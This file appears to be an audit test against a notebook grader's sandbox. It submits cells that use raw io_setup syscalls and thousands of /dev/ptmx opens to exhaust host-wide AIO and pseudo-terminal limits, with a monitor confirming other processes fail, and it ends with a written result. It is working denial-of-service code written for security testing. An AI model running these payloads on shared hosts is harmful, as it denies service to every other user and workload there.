"""a02: host-wide (not per-user, not per-namespace) kernel objects no rlimit caps, taken from inside the sandbox
as the ordinary user: (1) AIO contexts (io_setup is not in the seccomp deny list; fs.aio-max-nr = 65536 is ONE
count for the whole host), (2) pseudo-terminals (bwrap's --dev gives every sandbox /dev/ptmx on a new devpts
instance; kernel.pty.max - reserve = 3072 ptys are shared by all non-initial devpts instances on the host, i.e.
every container/sandbox). The kernel holds them 60 s while a monitor on the HOST (root, outside any sandbox) tries
io_setup(1) and an openpty in a fresh bwrap --dev (like another submission's sandbox / any container)."""
from u6 import *
import threading, ctypes, subprocess, time, json

AIO = r'''
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
ctxs, held = [], 0
for size in (4096, 512, 64, 8, 1):
    while True:
        c = ctypes.c_ulong(0)
        if libc.syscall(206, size, ctypes.byref(c)) != 0:
            err = ctypes.get_errno(); break
        ctxs.append(c.value)
print("aio contexts", len(ctxs), "last errno", err, "host aio-nr", open("/proc/sys/fs/aio-nr").read().strip(),
      "of", open("/proc/sys/fs/aio-max-nr").read().strip(), flush=True)
time.sleep(60)
q1 = "a"
'''
PTY = r'''
import os, time, resource
print("nofile", resource.getrlimit(resource.RLIMIT_NOFILE))
kids = []
for i in range(6):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r); fds = []
        try:
            while True: fds.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
        except OSError as e:
            os.write(w, f"{len(fds)} {e.errno}\n".encode())
        time.sleep(70); os._exit(0)
    os.close(w); kids.append(r)
time.sleep(3)
print("pty held per child", [os.read(r, 100).decode().strip() for r in kids],
      "host pty/nr", open("/proc/sys/kernel/pty/nr").read().strip(), flush=True)
time.sleep(60)
q1 = "a"
'''
log = []
def monitor(stop):
    libc = ctypes.CDLL(None, use_errno=True)
    while not stop.is_set():
        c = ctypes.c_ulong(0)
        r = libc.syscall(206, 1, ctypes.byref(c)); e = ctypes.get_errno()
        if r == 0: libc.syscall(207, c)  # io_destroy
        p = subprocess.run(["bwrap", "--dev-bind", "/", "/", "--dev", "/dev", "python3", "-c",
                            "import os; os.openpty(); print('ok')"], capture_output=True, text=True)
        log.append((time.strftime("%H:%M:%S"), open("/proc/sys/fs/aio-nr").read().strip(),
                    open("/proc/sys/kernel/pty/nr").read().strip(), "host io_setup(1)=" + ("ok" if r == 0 else f"errno {e}"),
                    "new devpts openpty=" + (p.stdout.strip() or p.stderr.strip()[-80:])))
        time.sleep(3)

if __name__ == "__main__":
    stop = threading.Event(); t = threading.Thread(target=monitor, args=(stop,)); t.start()
    try:
        dest, p = ugrade("02", {"a_aio": notebook({"quiz_q1": AIO}), "b_pty": notebook({"quiz_q1": PTY}),
                                "c_honest": honest_nb()})
    finally:
        stop.set(); t.join()
    for row in log: print(*row)
    outputs(dest, "a_aio"); outputs(dest, "b_pty")

# RESULT (ordinary user, 273 s, a02.out.txt): BROKEN (host-wide harm from one hand-in; not per user, not per
# namespace, no rlimit).
# (1) AIO: 16 io_setup calls in ONE process of the kernel took the whole host's fs.aio-nr (65536 of 65536):
#     from 06:30:27 to 06:31:25 (the cell's 60 s) io_setup(1) by ROOT on the host, outside any sandbox, failed
#     with EAGAIN (errno 11). Every libaio user of the host (databases, qemu, fio, another tester's jobs) would
#     fail the same way for as long as the submission is graded (up to its time limit). io_setup/io_submit are
#     not in the seccomp deny list (io_uring is).
# (2) PTYs: the kernel's processes opened /dev/ptmx 3071 times (6 forks; ENOSPC at 3071 = pty.max 4096 - reserve
#     1024): host pty/nr 3071; from 06:32:03 for 60 s a fresh `bwrap --dev /dev` (what every other sandbox,
#     i.e. the next submission's kernel, or any container on the host gets) could not openpty (ENOSPC). /dev/ptmx
#     and /dev/pts are in the sandbox's /dev (the threat model lists only null, zero, random).
# Scores: a_aio 0/30, b_pty 0/30, c_honest (graded after them) 24/24 — the grader itself uses neither, so this
# is harm to the host and to everything else running on it, not to this class's scores.
